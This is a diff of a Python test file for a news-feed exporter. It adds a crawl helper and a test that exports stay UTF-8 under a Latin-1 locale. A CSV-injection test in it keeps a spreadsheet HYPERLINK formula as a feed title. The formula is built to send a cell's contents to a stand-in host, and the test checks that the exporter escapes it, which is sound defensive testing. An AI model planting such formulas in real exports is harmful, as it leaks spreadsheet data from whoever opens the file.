@@ -115,6 +115,19 @@ def test_export_to_a_file_or_to_standard_output(workdir):
     assert not list(workdir.path.glob(".*partial"))
 
 
+def _crawl_titles(site, workdir, titles: list[str]) -> None:
+    """Crawl a feed of ``titles`` (its pages gone: each article is its feed item)."""
+    items = "".join(
+        f"<item><title>{html.escape(title)}</title><link>{site.url(f'/a/{n}')}</link>"
+        f"<description>Text {n}.</description></item>" for n, title in enumerate(titles))
+    feed = site.serve("/titles.rss", f'<rss version="2.0"><channel><title>T</title>{items}'
+                      "</channel></rss>".encode())
+    for n in range(len(titles)):
+        site.serve(f"/a/{n}", b"", status=410, content_type="text/html")
+    workdir.write_config(sources=[feed])
+    assert workdir.newswatch("crawl").returncode == 0
+
+
 def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(site, workdir):
     """A feed's title "=HYPERLINK(...)" went into the CSV as a live formula, and a headline
     starting "- " (Dagbladet: "- Angsten vil øke") showed as #NAME? in Excel."""
@@ -123,21 +136,33 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(site, workdir):
 
     titles = ['=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Click")', "- Angsten vil øke",
               "@channel news", "Plain headline"]
-    items = "".join(
-        f"<item><title>{html.escape(title)}</title><link>{site.url(f'/a/{n}')}</link>"
-        f"<description>Text {n}.</description></item>" for n, title in enumerate(titles))
-    feed = site.serve("/csv.rss", f'<rss version="2.0"><channel><title>T</title>{items}'
-                      "</channel></rss>".encode())
-    for n in range(len(titles)):
-        site.serve(f"/a/{n}", b"", status=410, content_type="text/html")
-    workdir.write_config(sources=[feed])
-    assert workdir.newswatch("crawl").returncode == 0
+    _crawl_titles(site, workdir, titles)
     rows = list(csv.DictReader(io.StringIO(workdir.newswatch("export", "--format", "csv").stdout)))
     assert sorted(row["title"] for row in rows) == sorted(
         ["'" + titles[0], "'" + titles[1], "'" + titles[2], titles[3]])
     # JSON lines keep the titles as they are.
     jsonl = [json.loads(line) for line in workdir.newswatch("export").stdout.splitlines()]
     assert sorted(row["title"] for row in jsonl) == sorted(titles)
+
+
+def test_export_to_standard_output_is_utf8_whatever_the_locale(site, workdir):
+    """``newswatch export > articles.csv`` under a Latin-1 locale stopped at the first
+    Czech or Japanese title ("unexpected error: UnicodeEncodeError", half a file, exit 1),
+    and a Latin-1 title came out in Latin-1: ``-o FILE`` and ``sources export`` write
+    UTF-8, whatever the locale."""
+    titles = ["Fialova vláda podá demisi", "東京で地震訓練", "Zürich café"]
+    _crawl_titles(site, workdir, titles)
+    for fmt in ("jsonl", "csv"):
+        target = workdir.path / f"articles.{fmt}"
+        assert workdir.newswatch("export", "--format", fmt, "-o", str(target)).returncode == 0
+        # A process of its own: the locale's encoding is set when Python starts.
+        result = subprocess.run(
+            [sys.executable, "-m", "newswatch", "--config", str(workdir.config), "export",
+             "--format", fmt], cwd=workdir.path, capture_output=True, timeout=60,
+            env=subprocess_env(PYTHONIOENCODING="latin-1"), check=False)
+        assert (result.returncode, result.stderr) == (0, b"")
+        assert result.stdout == target.read_bytes()
+        assert sorted(t for t in titles if t in result.stdout.decode("utf-8")) == sorted(titles)
 
 
 def _read_only_runner(tmp_path: Path) -> list[str]:
